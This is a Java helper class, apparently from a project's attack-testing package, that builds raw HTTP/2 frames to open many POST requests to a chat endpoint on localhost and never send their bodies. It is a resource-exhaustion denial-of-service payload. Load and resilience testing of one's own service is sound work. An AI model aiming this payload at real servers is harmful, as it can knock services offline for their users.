package org.satbuddy.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;

/** The few frames of HTTP/2 (RFC 9113) that open requests and never end them. */
final class Http2 {

    private static final int HEADERS = 1;
    private static final int SETTINGS = 4;
    private static final int END_HEADERS = 4;

    private Http2() {}

    /** A connection preface and as many POST requests as given, whose bodies never come. */
    static byte[] openPosts(int count) {
        var all = new ByteArrayOutputStream();
        all.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        frame(all, SETTINGS, 0, 0, new byte[0]);
        var fields = new ByteArrayOutputStream();
        field(fields, ":method", "POST");
        field(fields, ":scheme", "http");
        field(fields, ":path", "/ai/chat/message/");
        field(fields, ":authority", "localhost");
        field(fields, "content-type", "application/json");
        for (int i = 0; i < count; i++) {
            frame(all, HEADERS, END_HEADERS, 2 * i + 1, fields.toByteArray());
        }
        return all.toByteArray();
    }

    private static void frame(ByteArrayOutputStream out, int type, int flags, int stream, byte[] payload) {
        for (int shift = 16; shift >= 0; shift -= 8) {
            out.write(payload.length >> shift);
        }
        out.write(type);
        out.write(flags);
        for (int shift = 24; shift >= 0; shift -= 8) {
            out.write(stream >> shift);
        }
        out.writeBytes(payload);
    }

    /** A literal field without indexing (RFC 7541, section 6.2.2). */
    private static void field(ByteArrayOutputStream out, String name, String value) {
        out.write(0);
        out.write(name.length());
        out.writeBytes(name.getBytes(US_ASCII));
        out.write(value.length());
        out.writeBytes(value.getBytes(US_ASCII));
    }
}
